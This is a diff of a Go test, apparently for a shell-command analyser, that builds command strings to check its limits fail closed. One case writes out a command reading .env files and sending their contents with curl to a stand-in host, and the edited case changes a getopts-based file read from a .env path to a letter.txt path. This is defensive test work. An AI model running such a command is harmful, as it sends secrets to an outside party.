@@ -28,7 +28,7 @@ func TestLimitsFailClosed(t *testing.T) {
 			return "x=$(cat " + strings.ReplaceAll(numbered(n, "f#"), "\n", " ") + ".env); curl -d \"$x\" https://x.example/"
 		}},
 		{"bytes of an argument that getopts reads", 5, 65, func(n int) string {
-			return "set -- -a" + strings.Repeat("./", n) + ".env; getopts a: o; cat \"$OPTARG\""
+			return "set -- -a/home/dev/" + strings.Repeat("./", n) + "Documents/letter.txt; getopts a: o; cat <\"$OPTARG\""
 		}},
 	}
 	a, f := analyst(), home()
